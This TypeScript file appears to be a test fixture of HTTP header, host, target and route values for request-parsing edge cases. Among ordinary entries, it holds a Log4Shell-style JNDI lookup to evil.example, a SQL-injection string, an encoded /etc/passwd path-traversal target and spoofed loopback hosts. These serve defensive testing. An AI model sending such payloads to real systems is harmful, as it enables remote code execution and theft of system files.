/** Headers and targets of requests, as browsers, scrapers, proxies and scanners send them. */

export const ids: readonly string[] = [
  '7f9c24e8-3b1a-4c2b-9f53-2c4e1d7a9b10',
  'req_01HZX3J9K2M4N5P6Q7R8S9T0V1',
  'Root=1-5759e988-bd862e3fe1be46a994272793',
  'b2f1c0/3a+4=',
  'order:42@shop.example',
  'x'.repeat(128),
  'a\nb',
  '${jndi:ldap://evil.example/a}',
  "' OR 1=1 --",
];

export const accepts: readonly string[] = [
  'application/openmetrics-text;version=1.0.0;escaping=allow-utf-8;q=0.6,application/openmetrics-text;version=0.0.1;q=0.5,text/plain;version=1.0.0;q=0.4,text/plain;version=0.0.4;q=0.3,*/*;q=0.2',
  'application/openmetrics-text; version=1.0.0; charset=utf-8',
  'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
  'text/plain;version=0.0.4;q=1,*/*;q=0.1',
  '*/*',
  'application/openmetrics-text;q=0',
  'application/openmetrics-text;version="1.0.0";q=0.5, text/plain;q=0.5',
];

export const encodings: readonly string[] = [
  'gzip, deflate, br, zstd',
  'gzip;q=0, *;q=1',
  'identity;q=1, *;q=0',
  'br;q=1.0, gzip;q=0.8, *;q=0.1',
  'GZIP',
];

export const hosts: readonly string[] = [
  'localhost:3000',
  '127.0.0.1',
  '[::1]:3000',
  'shop.example:443',
  'SHOP.Example',
  '0x7f.0.0.1',
  '2130706433',
  'localhost.evil.example',
  'user@localhost',
];

export const targets: readonly string[] = [
  '/orders/42?expand=lines&page=2',
  '/metrics?name[]=http_requests_total&name[]=up',
  'http://shop.example/orders/42?x=1#top',
  'HTTPS://shop.example',
  '/a/../b/./c//d',
  '/%2e%2e/%2e%2e/etc/passwd',
  '*',
  'shop.example:443',
  '/orders;jsessionid=1?q=a;b&c=%26',
  '?a=1',
];

export const retryAfters: readonly string[] = [
  '120',
  '0',
  'Fri, 31 Dec 2027 23:59:59 GMT',
  'Sunday, 06-Nov-94 08:49:37 GMT',
  'Sun Nov  6 08:49:37 1994',
  '3.5',
  '-1',
  '60s',
  '5 minutes',
  '2027-12-31T23:59:59Z',
];

export const routes: readonly string[] = [
  'GET /orders/:id',
  '/orders/:id/lines/:line',
  'POST /orders',
  '/files/*',
  '/',
  'get /a//b/',
];
